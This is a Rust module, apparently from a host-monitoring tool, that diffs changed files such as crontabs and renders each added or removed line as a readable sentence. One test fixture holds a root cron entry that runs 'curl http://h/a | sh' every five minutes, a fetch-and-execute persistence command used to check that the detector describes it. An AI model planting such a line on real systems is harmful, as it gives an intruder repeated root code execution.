//! What the change of a file means: lines that came and went, and what they do.
//!
//! Files are hostile: nothing here panics, and all of it is bounded by the size of the text that was read.

use crate::event::FileText;

pub mod class;
mod cron;
mod diff;
mod key;
mod meaning;
mod schedule;
mod shell;
mod sudo;
mod unit;

pub use class::{Class, class, class_of};
pub use diff::{Difference, difference};
pub use meaning::{Meaning, meaning};

/// How a file changed.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Change {
    /// Lines that came; every line of a file whose past is not known.
    pub added: Vec<Box<str>>,
    /// Lines that went.
    pub removed: Vec<Box<str>>,
    /// What they do, a sentence each.
    pub meaning: Vec<String>,
    /// The same in single words, for rules; each once.
    pub kinds: Vec<&'static str>,
    /// Whether it is known what the file held before.
    pub is_complete: bool,
    /// What a reader has to know beside: why there is no content, or that it is not all.
    pub note: Option<String>,
}

impl Change {
    /// The change that a file's text now makes of what it held before.
    pub fn of(class: Class, before: Option<&str>, text: &FileText) -> Self {
        let now = match &text.text {
            Ok(now) => now,
            Err(why) => return Self { note: Some(why.to_string()), ..Self::default() },
        };
        let Difference { added, removed } = difference(before.unwrap_or_default(), now);
        let is_complete = before.is_some();
        let Meaning { sentences, kinds } = meaning(class, &added, &removed);
        let notes = [
            (!is_complete).then(|| "what it held before is not known".to_owned()),
            text.unfinished.then(|| "its writer still has it open".to_owned()),
            (usize::try_from(text.size).unwrap_or(usize::MAX) > CONTENT_MOST)
                .then(|| format!("only the beginning of its {} bytes was read", text.size)),
            (is_complete && added.is_empty() && removed.is_empty())
                .then(|| "it holds what it held before".to_owned()),
        ];
        let notes: Vec<String> = notes.into_iter().flatten().collect();
        Self {
            added: boxed(&added),
            removed: boxed(&removed),
            meaning: sentences,
            kinds,
            is_complete,
            note: (!notes.is_empty()).then(|| notes.join(", ")),
        }
    }

    /// Whether nothing of the file changed, as far as is known.
    pub fn is_empty(&self) -> bool {
        self.added.is_empty() && self.removed.is_empty()
    }
}

/// Most bytes of a file that are read.
pub const CONTENT_MOST: usize = 65_536;

fn boxed(lines: &[&str]) -> Vec<Box<str>> {
    lines.iter().map(|line| (*line).into()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{AgentId, CgroupId, Nanos, ProcessId};

    fn text(now: Result<&str, &str>) -> FileText {
        FileText {
            time: Nanos(2),
            written: Nanos(1),
            process: ProcessId::default(),
            agent: AgentId(1),
            cgroup: CgroupId(1),
            path: "/etc/cron.d/a".into(),
            dev: 1,
            inode: 1,
            before: None,
            text: now.map(Into::into).map_err(Into::into),
            size: now.map_or(0, |now| now.len() as u64),
            unfinished: false,
        }
    }

    fn change(before: Option<&str>, text: &FileText) -> Change {
        Change::of(Class::SystemCrontab, before, text)
    }

    #[test]
    fn a_change_says_what_came_what_went_and_what_it_does() {
        let before = "# jobs\n0 3 * * * root backup\n";
        let now = "# jobs\n*/5 * * * * root curl http://h/a | sh\n";
        let change = change(Some(before), &text(Ok(now)));
        assert_eq!(change.added, ["*/5 * * * * root curl http://h/a | sh".into()]);
        assert_eq!(change.removed, ["0 3 * * * root backup".into()]);
        assert_eq!(
            change.meaning,
            [
                "every 5 minutes, as root: curl http://h/a | sh",
                "no longer: at 03:00 every day, as root: backup"
            ]
        );
        assert_eq!(change.note, None);
    }

    #[test]
    fn what_is_not_known_is_said() {
        let fifo = change(None, &text(Err("it is a FIFO")));
        assert_eq!(fifo.note.as_deref(), Some("it is a FIFO"));
        let unknown = change(None, &text(Ok("@reboot root x")));
        assert_eq!(unknown.note.as_deref(), Some("what it held before is not known"));
        assert_eq!(unknown.meaning, ["at every boot, as root: x"]);
        let mut large = text(Ok("x"));
        (large.size, large.unfinished) = (1 << 30, true);
        let change = change(Some(""), &large);
        let note = "its writer still has it open, only the beginning of its 1073741824 bytes was read";
        assert_eq!(change.note.as_deref(), Some(note));
    }
}
